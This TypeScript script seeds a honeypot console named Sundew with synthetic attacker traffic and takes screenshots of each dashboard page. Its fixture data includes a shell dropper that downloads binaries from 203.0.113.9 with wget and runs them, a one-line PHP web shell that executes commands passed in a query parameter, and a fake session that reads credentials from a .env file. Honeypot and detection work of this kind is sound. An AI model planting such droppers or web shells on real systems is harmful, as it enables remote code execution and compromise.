/**
 * Pictures of every page of the console, dark and light, over made-up traffic of a day:
 * `node test/clients/screenshots.ts [FOLDER]`, docs/screenshots unless said.
 */
import { cpSync, mkdirSync, mkdtempSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { gzipSync } from 'node:zlib'
import { pino } from 'pino'
import { type Browser, chromium, type Page } from 'playwright-core'
import { annotatorOf } from '../../src/analysis/annotator.ts'
import { Geo } from '../../src/analysis/geo.ts'
import { Identity } from '../../src/config/identity.ts'
import { loadPersona } from '../../src/config/personas.ts'
import { Settings } from '../../src/config/schema.ts'
import type { Console } from '../../src/console/console.ts'
import type { SundewEvent } from '../../src/events/schema.ts'
import { uuid7 } from '../../src/events/uuid7.ts'
import { HoneytokenMint } from '../../src/host/honeytokens/mint.ts'
import { Instance, planOf } from '../../src/instance.ts'
import { Lab } from '../../src/lab/lab.ts'
import { openStores, type Stores } from '../../src/store/open.ts'
import { VERSION } from '../../src/version.ts'
import { trafficOf } from '../console/traffic.ts'
import { fakeModelServer, shellText } from '../llm/fake-model-server.ts'
import { sampleEvent } from '../store/sample-events.ts'

const HOUR = 3_600_000
const PASSWORD = 'correct horse battery'
const target = process.argv[2] ?? 'docs/screenshots'
const folder = mkdtempSync(join(tmpdir(), 'sundew-pictures-'))
const log = pino({ level: 'silent' })
const shell = uuid7()
const web = uuid7()

const PAGE = `<html><head><title>Tarnholt &amp; Weir trade portal</title><style>body{font:16px sans-serif;margin:0;background:#f4f1ea}
header{background:#3d4f3a;color:#fff;padding:18px 30px;font-size:22px}main{padding:24px 30px}table{border-collapse:collapse}
td,th{border:1px solid #c9c2b3;padding:6px 14px;text-align:left}</style></head><body><header>Tarnholt &amp; Weir Joinery</header><main>
<h1>Open orders</h1><table><tr><th>Order</th><th>Customer</th><th>Due</th></tr><tr><td>TW-20418</td><td>Hollis Builders</td><td>3 Dec</td></tr>
<tr><td>TW-20421</td><td>Abbey Kitchens</td><td>9 Dec</td></tr></table></main></body></html>`

function* moreEvents(now: number): Generator<SundewEvent> {
  const ssh = {
    session: shell,
    lure: 'ssh',
    standsFor: ['Cowrie', 'Beelzebub'],
    persona: 'debian-web',
    srcIp: '218.92.0.31',
    dstPort: 22,
    time: now - 1_200_000,
  }
  const turn = (input: string, output: string, source: string, n: number): SundewEvent => {
    const generation = {
      persona: 'debian-web',
      promptVersion: 'old',
      model: 'qwen3:4b-instruct',
      totalMs: 1_240,
      firstTokenMs: 310,
      guard: ['preamble'],
    }
    const isAsked =
      source === 'llm'
        ? { generation: { ...generation, promptTokens: 1_411, outputTokens: 36, question: { kind: 'shell', key: input } } }
        : {}
    const data = { kind: 'shell', input, output, source, exitCode: 0, durationMs: 4, detail: { cwd: '/root', user: 'root' }, ...isAsked }
    return sampleEvent({ ...ssh, time: ssh.time + n * 4_000, type: 'turn', data })
  }
  yield sampleEvent({ ...ssh, type: 'session.open', data: {} })
  yield sampleEvent({ ...ssh, type: 'login', data: { method: 'password', username: 'root', password: 'tarnholt', accepted: true } })
  yield turn('uname -a', 'Linux web01 6.1.0-28-amd64 #1 SMP PREEMPT_DYNAMIC Debian 6.1.119-1 (2024-11-22) x86_64 GNU/Linux\n', 'static', 1)
  yield turn('nginx -V', "Sure! Here's the output of nginx:\nnginx version: nginx/1.22.1\n", 'llm', 2)
  yield turn('cat /var/www/portal/.env', 'APP_ENV=production\nDB_HOST=127.0.0.1\nDB_USERNAME=tw_portal\n', 'static', 3)
  const http = {
    session: web,
    lure: 'http',
    standsFor: ['Galah'],
    persona: 'debian-web',
    srcIp: '45.148.10.77',
    dstPort: 80,
    time: now - 900_000,
  }
  const output = `HTTP/1.1 200 OK\r\nServer: nginx/1.22.1\r\nContent-Type: text/html; charset=utf-8\r\n\r\n${PAGE}`
  const input = 'GET /portal/orders/ HTTP/1.1\r\nHost: 198.51.100.4\r\nUser-Agent: Mozilla/5.0\r\n\r\n'
  const detail = { method: 'GET', target: '/portal/orders/', status: 200 }
  yield sampleEvent({ ...http, type: 'session.open', data: {} })
  yield sampleEvent({ ...http, type: 'turn', data: { kind: 'web', input, output, source: 'cache', durationMs: 3, detail } })
}

/** Files that attackers left, by name. */
const FILES: Readonly<Record<string, Buffer>> = {
  'bins.sh': Buffer.from(
    '#!/bin/sh\ncd /tmp || cd /var/run\nfor a in x86 mips arm7; do wget http://203.0.113.9/$a; chmod +x $a; ./$a; done\n',
  ),
  'bot.x86_64': Buffer.concat([Buffer.from('7f454c4602010100', 'hex'), Buffer.alloc(48_712, 0x90)]),
  'shell.php': Buffer.from('<?php @system($_GET["c"]); ?>\n'),
  'dump.tar.gz': gzipSync(Buffer.alloc(300_000, 'customers;')),
}

/** Pages by the name of their picture. */
const PAGES: Readonly<Record<string, string>> = {
  overview: '/',
  live: '/live',
  sessions: '/sessions?q=lure%3Assh+and+turns+%3E+3',
  session: `/sessions/${shell}`,
  'session-pages': `/sessions/${web}?view=pages`,
  'session-replay': `/sessions/${shell}?view=replay`,
  commands: '/commands',
  requests: '/requests',
  credentials: '/credentials',
  sources: '/sources',
  source: '/sources/218.92.0.31',
  artifacts: '/artifacts',
  campaigns: '/campaigns',
  attack: '/attack',
  alerts: '/alerts',
  honeytokens: '/honeytokens',
  recognised: '/recognised',
  review: '/review',
  prompts: '/prompts/debian-web',
  playground: `/playground?session=${shell}`,
  datasets: '/datasets/versions',
  experiments: '/experiments',
  sensors: '/sensors',
  health: '/health',
  settings: '/settings',
}

async function fill(stores: Stores, lab: Lab, identity: Identity): Promise<void> {
  const now = Date.now()
  const keep = (event: SundewEvent): void => stores.events.append(event)
  for (const events of trafficOf({ seed: 7, sessions: 1_500, since: now - 47 * HOUR, until: now - 30_000 })) events.forEach(keep)
  for (const event of moreEvents(now)) keep({ ...event, sensor: settings.sensor })
  for (const [name, bytes] of Object.entries(FILES)) {
    for (let times = name.length; times > 0; times--) {
      const data = { ...stores.artifacts.put(bytes), name, how: 'wget', url: `http://203.0.113.9/${name}` }
      const time = now - (name.length + times * 17) * 60_000
      keep(sampleEvent({ sensor: settings.sensor, session: uuid7(), lure: 'ssh', srcIp: '218.92.0.31', type: 'artifact', time, data }))
    }
  }
  const mint = HoneytokenMint.of({ identity, state: stores.state })
  const place = { kind: 'password', name: 'tw_portal', owner: 'debian-web', place: '/var/www/portal/.env' } as const
  for (const ip of ['45.148.10.77', '61.177.172.12', '218.92.0.31']) mint.mint(place, ip)
  const returned = {
    ...place,
    value: mint.mint(place, '218.92.0.31'),
    mintedFor: '218.92.0.31',
    mintedAt: now - HOUR,
    how: 'login',
    field: 'password',
    seenIn: uuid7(),
  }
  keep(
    sampleEvent({
      sensor: settings.sensor,
      session: uuid7(),
      lure: 'mysql',
      srcIp: '92.255.85.14',
      type: 'honeytoken.returned',
      data: returned,
    }),
  )
  for (const [sensor, behindMs] of [
    ['dmz-1', 0],
    ['plant-north', 1_140_000],
  ] as const) {
    const { session: _none, srcIp: _nobody, ...event } = sampleEvent({ sensor, time: now - 20_000, type: 'sensor.status' })
    const status = {
      version: VERSION,
      startedAt: now - 30 * HOUR,
      lures: 31,
      ports: 78,
      connections: 4,
      memoryBytes: 218_000_000,
      behindMs,
    }
    keep({ ...event, data: behindMs > 0 ? { ...status, trouble: 'the bus at nats://hive.example:4222 does not answer' } : status })
  }
  await stores.events.flush()
  const files = lab.persona('debian-web')
  lab.library.save(files, {
    ...files.prompts,
    shell: `${files.prompts.shell}\nStart with the output itself.\n`,
    author: 'ada',
    message: 'no preamble',
    parent: 1,
  })
  const asked = (await stores.events.events({ session: shell, type: 'turn', limit: 10 })).find(
    ({ data }) => data.source === 'llm',
  ) as SundewEvent
  await lab.judge(shell, asked.id, 'ada', { marks: ['gave-itself-away'], score: 1, comment: 'a preamble' })
  await lab.addRow('versions', 'ada', { session: shell, event: asked.id }, [{ type: 'not-contains', value: 'Sure' }])
  const variants = lab.matrix(files, [1, 2], [], [])
  await lab.startExperiment({ dataset: 'versions', variants, seed: 1, repeats: 1, by: 'ada', recorded: false }).finished
}

/** As on a phone. */
const PHONE = ['overview', 'sessions', 'session', 'sensors']

async function takeOnPhone(browser: Browser, operators: Console): Promise<void> {
  const page = await browser.newPage({ viewport: { width: 390, height: 844 }, colorScheme: 'dark' })
  await logIn(page, operators.url)
  for (const name of PHONE) {
    await open(page, operators.url + PAGES[name])
    await page.screenshot({ path: join(target, `${name}-phone.png`) })
  }
  await page.close()
}

async function logIn(page: Page, url: string): Promise<void> {
  await page.goto(url)
  await page.fill('input[name=name]', 'ada')
  await page.fill('input[name=password]', PASSWORD)
  await page.click('button[type=submit]')
  await page.waitForSelector('.figures')
}

async function open(page: Page, url: string): Promise<void> {
  await page.goto(url)
  await page.waitForSelector('.page-head')
  await page.waitForLoadState('networkidle', { timeout: 5_000 }).catch(() => undefined)
}

async function take(browser: Browser, operators: Console): Promise<void> {
  for (const colorScheme of ['dark', 'light'] as const) {
    const page = await browser.newPage({ viewport: { width: 1440, height: 900 }, colorScheme })
    await logIn(page, colorScheme === 'dark' ? (operators.setUpLink as string) : operators.url)
    for (const [name, path] of Object.entries(PAGES)) {
      await open(page, operators.url + path)
      if (name === 'live') await page.waitForTimeout(8_000)
      if (name === 'session-replay') await page.waitForTimeout(4_000)
      await page.screenshot({ path: join(target, `${name}-${colorScheme}.png`) })
    }
    await page.close()
  }
}

/** Visitors of now, a session every half second, for the map and the alerts. */
function visit({ bus }: Instance): NodeJS.Timeout {
  const now = Date.now()
  const visits = trafficOf({ seed: 11, sessions: 2_000, since: now, until: now + 60_000 })
  return setInterval(() => {
    const next = visits.next()
    if (!next.done) for (const { time: _then, ...event } of next.value) bus.publish(event)
  }, 500)
}

const server = await fakeModelServer({
  script: (asked) => shellText(asked.system.includes('Start with the output') ? 'nginx version: nginx/1.22.1\n' : 'nginx: as you asked\n'),
})
cpSync('prompts', join(folder, 'prompts'), { recursive: true })
const settings = Settings.parse({
  data: folder,
  prompts: join(folder, 'prompts'),
  listen: { host: '127.0.0.1', offset: 15_000 },
  console: { port: 0 },
  llm: { model: 'qwen3:4b-instruct', backends: [{ kind: 'ollama', url: server.url }] },
  alerts: {
    rules: [
      { name: 'hands-on', when: 'lure:ssh and turns > 3', group: 'src_ip', count: 1, window: '1h', coolDown: '6h', to: [] },
      { name: 'file-dropped', when: 'artifacts > 0', group: 'src_ip', count: 2, window: '1h', coolDown: '6h', to: [] },
    ],
  },
})
const geo = Geo.open(join(folder, 'geo'))
const stores = openStores(settings, log, annotatorOf(geo))
const identity = Identity.open(folder)
const persona = (name: string) => loadPersona(settings.prompts, name, identity)
const lab = new Lab({ settings, identity, log, state: stores.state, store: () => stores.events, persona })
await fill(stores, lab, identity)
await stores.close()
const instance = await Instance.start(planOf({ settings, file: undefined, lineOf: () => undefined }), log)
const visitors = visit(instance)
mkdirSync(target, { recursive: true })
const browser = await chromium.launch({ executablePath: process.env.CHROMIUM ?? '/usr/bin/chromium', args: ['--no-sandbox'] })
try {
  await take(browser, instance.console as Console)
  await takeOnPhone(browser, instance.console as Console)
} finally {
  clearInterval(visitors)
  await browser.close()
  await instance.stop('pictures are taken')
  await server.close()
  rmSync(folder, { recursive: true, force: true })
}
